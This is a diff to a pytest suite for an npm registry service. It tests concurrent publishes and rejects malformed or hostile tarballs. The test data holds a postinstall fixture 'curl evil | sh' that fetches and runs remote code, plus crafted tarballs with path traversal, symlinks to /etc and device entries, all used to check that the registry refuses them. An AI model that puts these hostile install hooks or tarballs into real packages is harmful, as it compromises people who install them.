@@ -4,14 +4,19 @@ from __future__ import annotations
 
 import asyncio
 import base64
+import gzip
 import hashlib
+import io
+import json
+import tarfile
 from collections.abc import AsyncIterator
+from contextlib import AsyncExitStack
 
 import pytest
 
 from feed_core.storage.ports import PutOutcome
 from tests.api.conftest import ORG, Api, SettingsFactory, running_api
-from tests.npm_packages import integrity, make_tarball, publish_body
+from tests.npm_packages import integrity, make_tarball, publish_body, tgz
 
 ABBREV = {"Accept": "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*"}
 
@@ -123,22 +128,48 @@ async def test_two_concurrent_publishes_of_one_version_one_wins(feed_api: Api) -
     del winner
 
 
-async def test_concurrent_publishes_of_different_versions_all_land(feed_api: Api) -> None:
+async def test_forty_concurrent_publishes_of_distinct_versions_all_land(feed_api: Api) -> None:
+    """Every publish rewrites the package's meta row; contention must be waited out, not refused."""
     api = feed_api
-    results = await asyncio.gather(*(api.publish("many", f"1.0.{i}", who="alice") for i in range(6)))
-    assert [r.status_code for r in results] == [201] * 6
+    results = await asyncio.gather(*(api.publish("many", f"1.0.{i}", who="alice") for i in range(40)))
+    assert [r.status_code for r in results] == [201] * 40, [r.text for r in results if r.status_code != 201]
     full = (await api.http.get(api.registry() + "many", headers=api.auth("bob"))).json()
-    assert sorted(full["versions"]) == [f"1.0.{i}" for i in range(6)]
+    assert sorted(full["versions"]) == sorted(f"1.0.{i}" for i in range(40))
     assert full["dist-tags"]["latest"] in full["versions"]
+
+
+async def test_concurrent_publishes_through_several_app_instances_all_land(make_settings: SettingsFactory) -> None:
+    """Scaled out, writers in other processes collide on the package row: they are waited out, not refused."""
+    settings = make_settings()
+    async with AsyncExitStack() as stack:
+        apis = [await stack.enter_async_context(running_api(settings)) for _ in range(4)]
+        await apis[0].create_feed("feed")
+        results = await asyncio.gather(*(apis[i % 4].publish("spread", f"2.0.{i}") for i in range(40)))
+        assert [r.status_code for r in results] == [201] * 40, [r.text for r in results if r.status_code != 201]
+        full = (await apis[1].http.get(apis[1].registry() + "spread", headers=apis[1].auth())).json()
+        assert sorted(full["versions"]) == sorted(f"2.0.{i}" for i in range(40))
+        assert all(len(api.services.packages._writers) == 0 for api in apis)  # no lock outlives its writers
+
+
+async def test_ten_concurrent_publishes_of_one_version_exactly_one_wins(feed_api: Api) -> None:
+    api = feed_api
+    results = await asyncio.gather(
+        *(api.publish("one", "1.0.0", who="alice", extra={"description": f"try {i}"}) for i in range(10))
+    )
+    assert sorted(r.status_code for r in results) == [201] + [409] * 9
+    assert all("already exists" in r.json()["error"] for r in results if r.status_code == 409)
+    full = (await api.http.get(api.registry() + "one", headers=api.auth("bob"))).json()
+    assert list(full["versions"]) == ["1.0.0"]
 
 
 async def test_content_is_stored_once_per_sha256(feed_api: Api) -> None:
     api = feed_api
     data = make_tarball("same", "1.0.0")
-    assert (await api.publish("same-a", "1.0.0", who="alice", tarball=data)).status_code == 201
-    assert (await api.publish("same-b", "1.0.0", who="alice", tarball=data)).status_code == 201
+    await api.create_feed("feed2")
+    assert (await api.publish("same", "1.0.0", who="admin", tarball=data)).status_code == 201
+    assert (await api.publish("same", "1.0.0", who="admin", feed="feed2", tarball=data)).status_code == 201
     store = api.services.packages.store
-    a = await store.get_version((await api.services.feeds.find(ORG, None, "feed")).id, "npm", "same-a", "1.0.0")
+    a = await store.get_version((await api.services.feeds.find(ORG, None, "feed2")).id, "npm", "same", "1.0.0")
     assert a is not None and a.sha256 == hashlib.sha256(data).hexdigest()
     _, outcome = await store.put_content(data, "application/octet-stream")
     assert outcome is PutOutcome.ALREADY_EXISTED
@@ -337,9 +368,20 @@ def _b64(data: bytes) -> str:
         (lambda b: b["versions"]["1.0.0"]["dist"].update(integrity=integrity(b"other")), 400, "integrity"),
         (lambda b: b["versions"]["1.0.0"]["dist"].update(integrity="md5-abc"), 400, "integrity"),
         (lambda b: b["versions"]["1.0.0"]["dist"].update(shasum="0" * 40), 400, "shasum"),
-        (lambda b: b["_attachments"]["bad-1.0.0.tgz"].update(data=_b64(b"plain text"), length=10), 400, "gzip"),
-        (lambda b: b.update(_attachments={}), 200, ""),  # an edit with no versions changed: harmless
+        (lambda b: b["_attachments"]["bad-1.0.0.tgz"].update(data=_b64(b"plain text"), length=10), 400, "integrity"),
+        # a new version without its tarball is refused, never answered {"ok": true} with nothing stored
+        (lambda b: b.update(_attachments={}), 400, "exactly one attachment"),
+        (lambda b: b.pop("_attachments"), 400, "exactly one attachment"),
+        (lambda b: b.update(_attachments=None), 400, "exactly one attachment"),
+        (lambda b: b.update(_attachments=[]), 400, "exactly one attachment"),
         (lambda b: b["_attachments"].update({"second.tgz": b["_attachments"]["bad-1.0.0.tgz"]}), 400, "exactly one"),
+        (
+            lambda b: b.update(_attachments={"other-9.9.9.tgz": b["_attachments"]["bad-1.0.0.tgz"]}),
+            400,
+            "'bad-1.0.0.tgz'",
+        ),
+        (lambda b: b.update(_attachments={"bad-1.0.0.tar": b["_attachments"]["bad-1.0.0.tgz"]}), 400, "exactly one"),
+        (lambda b: b.update(_rev="1-abc", _attachments={}), 400, "is not in this feed"),  # an "edit" adding a version
         (lambda b: b.update(name="other"), 400, "URL names"),
         (lambda b: b["versions"].update({"1.0.1": b["versions"]["1.0.0"]}), 400, "exactly one version"),
         (lambda b: b.update(versions={"1.0": b["versions"]["1.0.0"]}), 400, "invalid version"),
@@ -360,6 +402,130 @@ async def test_bad_publish_bodies(feed_api: Api, mutate: object, status: int, wo
         assert words in r.json()["error"]
     doc = (await api.http.get(api.registry() + "bad", headers=api.auth("bob"))).json()
     assert list(doc["versions"]) == ["0.0.1"]
+
+
+# --- what the tarball holds must be what the manifest says (the registry's own checks) ---
+
+
+def _entry(path: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
+    info = tarfile.TarInfo(path)
+    info.type = kind
+    info.linkname = link
+    return info
+
+
+def _pkg_json(doc: object) -> tuple[tarfile.TarInfo, bytes]:
+    data = json.dumps(doc).encode()
+    info = tarfile.TarInfo("package/package.json")
+    info.size = len(data)
+    return info, data
+
+
+def _with(entry: tarfile.TarInfo) -> bytes:
+    return make_tarball("tb", "1.0.0", entries=[entry])
+
+
+EVIL = {"scripts": {"postinstall": "curl evil | sh"}}
+TB = {"name": "tb", "version": "1.0.0"}
+NOT_TGZ = "not a readable gzip"
+GARBAGE = b"".join(hashlib.sha512(bytes([i])).digest() for i in range(64))  # 4 KiB, incompressible
+TARBALL_ATTACKS = [
+    # the tarball's package.json is another package or version, with an install script the manifest does not show
+    pytest.param(make_tarball("victim", "1.0.0", extra=EVIL), 400, "names package", id="other-package"),
+    pytest.param(make_tarball("tb", "6.6.6", extra=EVIL), 400, "says version", id="other-version"),
+    pytest.param(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + GARBAGE, 400, NOT_TGZ, id="gzip-header-then-garbage"),
+    pytest.param(gzip.compress(GARBAGE), 400, NOT_TGZ, id="gzip-but-not-tar"),
+    pytest.param(make_tarball("tb", "1.0.0")[:-40], 400, NOT_TGZ, id="truncated"),
+    pytest.param(b"PK\x03\x04 a zip", 400, NOT_TGZ, id="zip"),
+    pytest.param(tgz([(_entry("package/index.js"), b"")]), 400, "no package/package.json", id="no-package-json"),
+    pytest.param(tgz([_pkg_json(["not", "an", "object"])]), 400, "not a JSON object", id="package-json-not-object"),
+    pytest.param(tgz([_pkg_json(TB), _pkg_json(TB)]), 400, "more than once", id="package-json-twice"),
+    pytest.param(_with(_entry("package/lib", tarfile.SYMTYPE, "/etc")), 400, "a symbolic link", id="symlink"),
+    pytest.param(_with(_entry("package/x", tarfile.LNKTYPE, "package/index.js")), 400, "a hard link", id="hardlink"),
+    pytest.param(_with(_entry("package/tty", tarfile.CHRTYPE)), 400, "a character device", id="device"),
+    pytest.param(_with(_entry("package/../../x.js")), 400, "unsafe path", id="traversal"),
+]
+
+
+@pytest.mark.parametrize(("tarball", "status", "words"), TARBALL_ATTACKS)
+async def test_tarballs_that_are_not_what_they_claim_are_refused(
+    feed_api: Api, tarball: bytes, status: int, words: str
+) -> None:
+    api = feed_api
+    r = await api.publish("tb", "1.0.0", who="alice", tarball=tarball)  # integrity and shasum match the bytes
+    assert r.status_code == status, r.text
+    assert words in r.json()["error"]
+    assert (await api.http.get(api.registry() + "tb", headers=api.auth("bob"))).status_code == 404
+
+
+async def test_an_entry_declaring_more_than_the_per_file_limit_is_refused_before_inflating(feed_api: Api) -> None:
+    huge = _entry("package/huge.bin")
+    huge.size = 300 * 1024 * 1024
+    raw = io.BytesIO()
+    with gzip.GzipFile(fileobj=raw, mode="wb") as gz:
+        gz.write(huge.tobuf(format=tarfile.GNU_FORMAT) + bytes(1024 * 1024))  # the header, then only 1 MiB of data
+    r = await feed_api.publish("tb", "1.0.0", who="alice", tarball=raw.getvalue())
+    assert r.status_code == 413 and "for one file" in r.json()["error"]
+
+
+async def test_the_tarball_is_the_truth_for_install_scripts_and_sizes(feed_api: Api) -> None:
+    api = feed_api
+    gyp = tarfile.TarInfo("package/binding.gyp")
+    gyp.size = 2
+    members = [_pkg_json({"name": "native", "version": "1.0.0"}), (gyp, b"{}")]
+    assert (await api.publish("native", "1.0.0", who="alice", tarball=tgz(members))).status_code == 201
+    corgi = (await api.http.get(api.registry() + "native", headers={**ABBREV, **api.auth("bob")})).json()
+    v = corgi["versions"]["1.0.0"]
+    assert v["hasInstallScript"] is True  # npm runs node-gyp for it, though the manifest has no scripts
+    full = (await api.http.get(api.registry() + "native", headers=api.auth("bob"))).json()
+    assert full["versions"]["1.0.0"]["dist"]["fileCount"] == 2
+    assert full["versions"]["1.0.0"]["dist"]["unpackedSize"] == len(members[0][1]) + 2
+
+
+@pytest.mark.parametrize("version", ["v1.0.0", " =1.0.0 ", "1.0.0+build.7"])
+async def test_tarball_versions_are_compared_as_npm_cleans_them(feed_api: Api, version: str) -> None:
+    tarball = tgz([_pkg_json({"name": "clean", "version": version})])
+    assert (await feed_api.publish("clean", "1.0.0", who="alice", tarball=tarball)).status_code == 201
+
+
+async def test_scoped_publish_names_its_attachment_with_the_scope(feed_api: Api) -> None:
+    api = feed_api
+    body = publish_body("@team/att", "1.0.0")
+    assert list(body["_attachments"]) == ["@team/att-1.0.0.tgz"]  # what npm sends
+    body["_attachments"] = {"att-1.0.0.tgz": body["_attachments"]["@team/att-1.0.0.tgz"]}
+    r = await api.http.put(api.registry() + "@team%2fatt", json=body, headers=api.auth("alice"))
+    assert r.status_code == 400 and "'@team/att-1.0.0.tgz'" in r.json()["error"]
+    assert (await api.publish("@team/att", "1.0.0", who="alice")).status_code == 201
+
+
+async def test_a_provenance_bundle_next_to_the_tarball_is_accepted(feed_api: Api) -> None:
+    body = publish_body("prov", "1.0.0")
+    body["_attachments"]["prov-1.0.0.sigstore"] = {"content_type": "application/vnd.dev.sigstore.bundle+json"}
+    r = await feed_api.http.put(feed_api.registry() + "prov", json=body, headers=feed_api.auth("alice"))
+    assert r.status_code == 201, r.text
+
+
+@pytest.mark.parametrize(
+    ("extra", "words"),
+    [
+        ({"description": "d" * (60 * 1024 * 1024)}, "description is longer than the 16384"),
+        ({"description": "d" * (16 * 1024 + 1)}, "description is longer than the 16384"),
+        ({"readme": "r" * (4 * 1024 * 1024 + 1)}, "readme is longer than the 4194304"),
+        ({"keywords": ["k" * 1000] * 1100}, "more than the 1048576"),
+    ],
+)
+async def test_oversized_manifest_fields_are_refused(feed_api: Api, extra: dict[str, object], words: str) -> None:
+    api = feed_api
+    body = publish_body("big", "1.0.0", extra=extra, tarball=make_tarball("big", "1.0.0"))  # small, honest tarball
+    body["description"] = ""  # only the version's manifest is kept, so that is where the size must be caught
+    r = await api.http.put(api.registry() + "big", json=body, headers=api.auth("alice"))
+    assert r.status_code == 413 and words in r.json()["error"], r.text[:300]
+    assert (await api.http.get(api.registry() + "big", headers=api.auth("bob"))).status_code == 404
+
+
+async def test_real_sized_readme_and_description_fit(feed_api: Api) -> None:
+    extra = {"description": "A package. " * 100, "readme": "# Big README\n" + "text " * 200_000}  # ~1 MB readme
+    assert (await feed_api.publish("fits", "1.0.0", who="alice", extra=extra)).status_code == 201
 
 
 async def test_malformed_json_and_non_object(feed_api: Api) -> None:
